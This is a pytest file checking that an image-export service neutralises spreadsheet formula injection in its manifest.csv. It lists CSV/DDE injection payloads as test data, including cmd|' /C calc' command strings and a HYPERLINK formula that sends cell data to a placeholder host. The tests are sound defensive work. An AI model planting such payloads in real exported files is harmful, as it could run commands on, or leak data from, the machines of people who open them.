"""manifest.csv is read by spreadsheets: nothing a person typed may run there as a formula."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from PIL import Image

from services import export
from services.items import HistoryItem


def _item(prompt: str, source_name: str = "mug.jpg") -> HistoryItem:
    buf = io.BytesIO()
    Image.new("RGB", (32, 24), (10, 120, 200)).save(buf, "PNG")
    return HistoryItem(prompt=prompt, image_type="png", engine="novita", seconds=1.0, source_name=source_name,
                       result=buf.getvalue(), before_preview=b"", after_preview=b"", thumbnail=b"")


def _manifest(rows) -> list[dict[str, str]]:
    with zipfile.ZipFile(io.BytesIO(export.zip_results(rows))) as archive:
        text = archive.read("manifest.csv").decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


HOSTILE = [
    '=HYPERLINK("http://x"&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("prompt", HOSTILE)
def test_a_prompt_that_starts_like_a_formula_is_written_as_text(prompt):
    (row,) = _manifest([export.Row("mug.jpg", prompt, "png", "novita", item=_item(prompt))])
    assert row["prompt"] == "'" + prompt
    assert row["status"] == "done" and row["format"] == "png"


@pytest.mark.parametrize("error", ['=HYPERLINK("http://x","Click")', "-1 bad"])
def test_a_failure_row_is_neutralised_too(error):
    (row,) = _manifest([export.Row("x.jpg", "@evil()", "png", "novita", error=error)])
    assert row["error"] == "'" + error and row["prompt"] == "'@evil()"


@pytest.mark.parametrize("prompt", ["on a marble counter", "a 3-metre wall = art", "café, 'quoted'", ""])
def test_ordinary_text_is_unchanged(prompt):
    (row,) = _manifest([export.Row("mug.jpg", prompt, "png", "novita", item=_item(prompt))])
    assert row["prompt"] == prompt
    assert row["seconds"] == "1.00"
